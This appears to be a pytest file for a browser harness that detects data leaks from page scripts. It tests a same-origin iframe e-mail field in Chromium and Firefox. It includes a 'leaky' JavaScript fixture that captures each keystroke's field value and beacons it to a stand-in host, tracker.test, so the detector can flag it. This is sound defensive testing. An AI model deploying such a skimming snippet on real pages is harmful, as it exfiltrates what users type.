"""The snippet under test runs in every frame in both browsers (harness/run/inject.py): Firefox over BiDi ran init
scripts only in a same-origin iframe's initial about:blank document, so a tracker in the frame sent nothing.

End to end: the bundled embed page (an e-mail field in a same-origin iframe), a tracker of our own injected as the
snippet, which reports from each document it runs in; honest, it sends only lengths, leaky, the field's value.
"""

from __future__ import annotations

import io
import json
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, urlsplit

import pytest

from harness.cli import main

SITE = Path(__file__).resolve().parent.parent / "scenarios" / "site"
BROWSERS = ["chromium", "firefox"]
FRAME_FIELD = "#newsletter-frame >> internal:control=enter-frame >> #nl-email"

TRACKER = """
navigator.sendBeacon('https://tracker.test/hello?doc=' + encodeURIComponent(location.pathname), 'hi');
document.addEventListener('input', function (e) {
  var data = %s;
  navigator.sendBeacon('https://tracker.test/input?doc=' + encodeURIComponent(location.pathname) +
    '&id=' + encodeURIComponent(e.target.id), data);
}, true);
"""
HONEST = TRACKER % "String(e.target.value.length)"
LEAKY = TRACKER % "e.target.value"

SCENARIO = f"""
name: An e-mail typed into a same-origin frame
start: https://shop.test/embed.html
secrets:
  email: "{{canary:email}}"
steps:
  - wait: {{selector: "{FRAME_FIELD}"}}
  - type: {{selector: "{FRAME_FIELD}", text: "{{email}}", delay: 20}}
  - wait: 500
  - leave: close
"""


def run(tmp_path: Path, engine: str, tracker: str) -> tuple[dict[str, Any], list[dict[str, Any]]]:
    (tmp_path / "scenario.yaml").write_text(SCENARIO)
    (tmp_path / "tracker.js").write_text(tracker)
    report = tmp_path / "report"
    out, err = io.StringIO(), io.StringIO()
    main(["run", str(tmp_path / "scenario.yaml"), "--site", str(SITE), "--snippet", str(tmp_path / "tracker.js"),
          "--browser", engine, "--report", str(report)], out, err)
    (result,) = json.loads((report / "results.json").read_text())["runs"]
    assert result["error"] in (None, ""), out.getvalue() + err.getvalue()
    return result, json.loads((report / result["dir"] / "traffic.json").read_text())["requests"]


def reports(traffic: list[dict[str, Any]], kind: str) -> list[dict[str, list[str]]]:
    return [parse_qs(urlsplit(r["url"]).query) for r in traffic if r["url"].startswith(f"https://tracker.test/{kind}")]


@pytest.mark.parametrize("engine", BROWSERS)
def test_the_snippet_runs_in_a_same_origin_frame_and_records_its_field(tmp_path: Path, engine: str) -> None:
    result, traffic = run(tmp_path, engine, HONEST)
    assert {"doc": ["/frame-newsletter.html"]} in reports(traffic, "hello"), traffic
    from_the_field = [q for q in reports(traffic, "input") if q == {"doc": ["/frame-newsletter.html"], "id": ["nl-email"]}]
    assert len(from_the_field) >= 10, traffic  # one per key typed in the frame
    assert result["status"] == "passed", result["findings"]


@pytest.mark.parametrize("engine", BROWSERS)
def test_a_leak_from_a_frame_field_is_caught(tmp_path: Path, engine: str) -> None:
    result, _ = run(tmp_path, engine, LEAKY)
    assert result["status"] == "failed"
    assert {(f["rule"], f["field"], f["channel"]) for f in result["findings"]} >= {
        ("not-before-submit", FRAME_FIELD, "beacon")
    }, result["findings"]
